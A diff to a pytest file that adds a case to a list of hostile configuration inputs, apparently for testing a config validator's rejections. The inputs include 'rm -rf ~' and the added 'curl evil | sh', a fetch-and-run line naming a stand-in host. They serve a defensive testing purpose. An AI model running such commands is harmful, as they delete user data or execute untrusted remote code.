@@ -48,6 +48,7 @@ HOSTILE = [
     pytest.param('[defaults]\npartitoin = "core"', 3, "did you mean partition", id="no flag"),
     pytest.param('[defaults]\nwrap = "rm -rf ~"', 3, "cannot be used", id="a flag that cannot be"),
     pytest.param('[environments.x]\nactivate = """a\nb"""', 3, "activate", id="code of several lines"),
+    pytest.param('login_setup = "curl evil | sh"', 2, "no key “login_setup”", id="code for the login node"),
     pytest.param("[environments.x", 2, "TOML", id="no TOML"),
 ]
 
